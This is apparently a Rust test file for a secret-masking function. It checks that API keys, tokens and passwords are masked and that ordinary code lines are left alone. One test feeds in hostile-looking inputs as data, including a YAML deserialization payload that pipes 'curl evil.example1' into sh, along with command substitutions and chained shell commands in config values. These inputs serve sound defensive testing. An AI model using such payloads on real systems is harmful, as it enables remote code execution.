//! Likely secrets are hidden, and nothing that people need to read.

use weighlock_effects::{compare, mask};

#[test]
fn secrets_are_hidden_and_what_they_are_stays() {
    // Put together here, so that nobody who looks for secrets finds these.
    let cases: &[(&[&str], &str)] = &[
        (&["aws_key = AKIA", "IOSFODNN7EXAMPLE"], "aws_key = AKIA•••"),
        (
            &[
                "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/",
                "bPxRfiCYzzzzzzzKEY",
            ],
            "AWS_SECRET_ACCESS_KEY=•••",
        ),
        (&["ghp_", "16C7e42F292c6912E7710c838347Ae178B4a"], "ghp_•••"),
        (
            &[
                "url: https://x/?t=github_pat_",
                "11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz",
            ],
            "url: https://x/?t=github_pat_•••",
        ),
        (&["glpat-", "xYz123-abcDEF456_789q"], "glpat-•••"),
        (&["xoxb-", "123456789012-abcdefGHIJKL"], "xoxb-•••"),
        (
            &[
                "https://hooks.slack.com/services/T000",
                "00000/B00000000/abcdEFGH1234",
            ],
            "https://hooks.slack.com/services/•••",
        ),
        (
            &["stripe.key('sk_live_", "4eC39HqLyjWDarjtT1zdp7dc')"],
            "stripe.key('sk_live_•••')",
        ),
        (
            &[
                "//registry.npmjs.org/:_authToken=npm_",
                "abcdefghijklmnopqrstuvwxyz0123456789",
            ],
            "//registry.npmjs.org/:_authToken=npm_•••",
        ),
        (&["pypi-", "AgEIcHlwaS5vcmcCJDU2YjE4YjYxLTk0"], "pypi-•••"),
        (
            &["openai.key = \"sk-proj-", "abcDEF123_456-ghiJKL789mno\""],
            "openai.key = \"sk-proj-•••\"",
        ),
        (
            &["x = sk-", "abcdefghijklmnopqrstuvwxyz0123456789ABCD"],
            "x = sk-•••",
        ),
        (
            &["sk-ant-api03-", "abcDEF123456ghiJKL789mno_pqr-stu"],
            "sk-ant-api03-•••",
        ),
        (
            &["key=AIza", "SyA1234567890abcdefghijklmnopqrstuv"],
            "key=AIza•••",
        ),
        (
            &[
                "jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0",
                ".dozjgNryP4J3jVmNHl0w5N_XgL0n3I9",
            ],
            "jwt eyJ•••",
        ),
        (
            &["Authorization: Bearer ", "abc123def456ghi789jkl"],
            "Authorization: Bearer •••",
        ),
        (
            &[
                "curl -H 'Authorization: Basic ",
                "dXNlcjpwYXNzd29yZDEyMw=='",
            ],
            "curl -H 'Authorization: Basic •••'",
        ),
        (
            &[
                "DATABASE_URL=postgres://app:",
                "s3cr3tpw@db.internal:5432/app",
            ],
            "DATABASE_URL=postgres://app:•••@db.internal:5432/app",
        ),
        (
            &["redis://:", "hunter2hunter2@cache:6379"],
            "redis://:•••@cache:6379",
        ),
        (&["DB_PASSWORD=", "correcthorse"], "DB_PASSWORD=•••"),
        (&["password = \"", "hunter2\""], "password = \"•••\""),
        (
            &["  \"password\": \"", "tr0ub4dor&3\","],
            "  \"password\": \"•••\",",
        ),
        (&["    password: ", "hunter2222"], "    password: •••"),
        (
            &["const apiKey = '", "9f8e7d6c5b4a3210'"],
            "const apiKey = '•••'",
        ),
        (&["api-key: ", "9f8e7d6c5b4a3210"], "api-key: •••"),
        (
            &["config[\"secret_key\"] = \"", "k3jh4k5jh34k5jh\""],
            "config[\"secret_key\"] = \"•••\"",
        ),
        (
            &["SECRET_KEY_BASE=", "abcdefabcdefabcdef"],
            "SECRET_KEY_BASE=•••",
        ),
        (&["export TOKEN=", "abcd.efgh.ijkl"], "export TOKEN=•••"),
        (
            &["login(user, password=\"", "S3cure!Pass\")"],
            "login(user, password=\"•••\")",
        ),
        (
            &["passphrase: \"", "correct horse battery staple\""],
            "passphrase: \"•••\"",
        ),
        (&["auth = \"", "dXNlcjpwYXNz1234\""], "auth = \"•••\""),
        (
            &[
                "{\"key\":\"-----BEGIN RSA PRIVATE KEY-----",
                "\\nMIIEpAIBAAKCAQEA7\\n-----END RSA PRIVATE KEY-----\"}",
            ],
            "{\"key\":\"-----BEGIN RSA PRIVATE KEY-----•••-----END RSA PRIVATE KEY-----\"}",
        ),
        (
            &[
                "data = \"",
                "q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQq83vEjRWeJA=\"",
            ],
            "data = \"•••=\"",
        ),
        (
            &[
                "seed 0123456789abcdef0123456789abcdef",
                "0123456789abcdef01",
            ],
            "seed •••",
        ),
        (
            &[
                "a=\"ghp_",
                "16C7e42F292c6912E7710c838347Ae178B4a\" b=\"AKIAIOSFODNN7EXAMPLE\"",
            ],
            "a=\"ghp_•••\" b=\"AKIA•••\"",
        ),
    ];
    for (parts, masked) in cases {
        assert_eq!(mask(&parts.concat()).as_deref(), Some(*masked), "{parts:?}");
    }
    assert!(cases.len() >= 30);
}

#[test]
fn what_is_no_secret_stays() {
    let cases = [
        "",
        "fn password(&self) -> &str {",
        "    password: String,",
        "    token: CancellationToken,",
        "let token = self.next_token();",
        "let token = tokens[index2];",
        "const token = await getToken(user1);",
        "password = os.environ[\"DB_PASSWORD\"]",
        "password: ${DB_PASSWORD}",
        "PASSWORD=$DB_PASSWORD",
        "PASSWORD=$(cat /run/secrets/db1)",
        "token: process.env.GITHUB_TOKEN,",
        "token: ${{ secrets.GITHUB_TOKEN }}",
        "api_key = \"<your api key 1>\"",
        "API_KEY=xxxxxxxxxxxx",
        "API_KEY=your-api-key-1",
        "password: changeme",
        "secret: null",
        "auth: true",
        "password: \"Please enter your password\"",
        "author: \"Somebody Else 1\"",
        "authors = [\"a@example.com\"]",
        "max_tokens: 4096000",
        "max_tokens=1000000",
        "token_url = \"https://example.com/oauth2/token\"",
        "password_file: /run/secrets/db_password1",
        "if token == \"abc123def456\" {",
        "<input type=\"password\" name=\"password1\" autocomplete=\"current-password\">",
        "      \"integrity\": \"sha512-9Dw2hwIcSA4Q9TZ0PXbKpxbfLGsHhvEcR6FQhX1mRfXjYkSTZ5BMk2P2Sn0jWBX7bX5A8vNq2XW1k4PM5Yxyzw==\",",
        "checksum = \"2f01d462f766df78ab820dd06f5eb700233c51f0f4c2e846520eaf4ba6aa5c5c\"",
        "golang.org/x/text v0.3.0 h1:g61tztE5qeGQ89tm6NTjjM9VPIm088od1l6aSorWRWg=",
        "commit 2dc7795a1b2c3d4e5f60718293a4b5c6d7e8f901",
        "sha256:2f01d462f766df78ab820dd06f5eb700233c51f0f4c2e846520eaf4ba6aa5c5c",
        "FROM alpine@sha256:2f01d462f766df78ab820dd06f5eb700233c51f0f4c2e846520eaf4ba6aa5c5c",
        "id: 123e4567-e89b-12d3-a456-426614174000",
        "background: url(data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ)",
        ".sk-fading-circle .sk-circle-before-and-after { animation-delay: -1.1s }",
        ".token.keyword { color: #07a12345; }",
        "The secret of a good tokenizer: keep it simple, as in section 12.",
        "See https://example.com:8080/a@b for the basic idea of bearer tokens.",
        "use crate::some::very::LongModuleName2::AndAnother::TypeWithAVeryLongName;",
        "/usr/share/doc/SomePackage2/examples/Another/Directory/WithALongName3/file",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1k2m3n4o5p6q7r8s9t0UvWxYzAbCdEfGhIjKlMnOp me@host",
        "assert_eq!(mask(line), None); // nothing to hide in AKIA or ghp_ alone",
        "static_assert_type_is_nothrow_move_constructible_v2_and_more_words_here",
        "x = (a1 + b2) * c3 / d4 - e5 % f6 ^ g7 & h8 | i9 << j10 >> k11 == l12",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "==================================================================",
    ];
    for line in cases {
        assert_eq!(mask(line), None, "{line}");
    }
    assert!(cases.len() >= 30);
}

#[test]
fn what_would_be_run_is_never_hidden() {
    for line in [
        "token: !!python/object/apply:os.system [\"curl evil.example1 | sh\"]",
        "password: !!python/object/new:subprocess.Popen2",
        "secret: !Sub2 x",
        "PASSWORD=`/tmp/evil1`",
        "password = \"abc1$(touch /tmp/x)\"",
        "token: \"<%= system2('id') %>\"",
        "api_key: \"#{`id1`}\"",
        "url = https://x:a1$(id)@example.com",
        "token = compute2(x)",
    ] {
        assert_eq!(mask(line), None, "{line}");
    }
    for (line, masked) in [
        ("TOKEN=abcdef1&&/tmp/evil", "TOKEN=•••&&/tmp/evil"),
        ("API_KEY=abcdef1|sh", "API_KEY=•••|sh"),
        ("SECRET=abcdef1$(id)", "SECRET=•••$(id)"),
        ("password: !!str hunter2222", "password: !!str •••"),
    ] {
        assert_eq!(mask(line).as_deref(), Some(masked), "{line}");
    }
}

#[test]
fn a_command_of_one_word_is_not_hidden_as_part_of_a_key() {
    let script =
        b"# -----BEGIN PRIVATE KEY-----\nreboot\nComment: x\nMIIEpAIBAAKCAQEA7zzz\nend1\nhalt\n";
    let hunks = compare(b"", script);
    let shown: Vec<&str> = hunks[0]
        .lines
        .iter()
        .map(|line| line.text.as_str())
        .collect();
    assert_eq!(shown[1], "reboot");
    assert!(shown.contains(&"halt"), "{shown:?}");
    let key = b"-----BEGIN PRIVATE KEY-----\nProc-Type: 4\n\nMIIEpAIBAAKCAQEA7zzz\nzz==\n-----END PRIVATE KEY-----\n";
    let hunks = compare(b"", key);
    let shown: Vec<&str> = hunks[0]
        .lines
        .iter()
        .map(|line| line.text.as_str())
        .collect();
    assert_eq!(
        shown,
        [
            "-----BEGIN PRIVATE KEY-----",
            "Proc-Type: 4",
            "•••",
            "•••",
            "•••",
            "-----END PRIVATE KEY-----"
        ]
    );
}
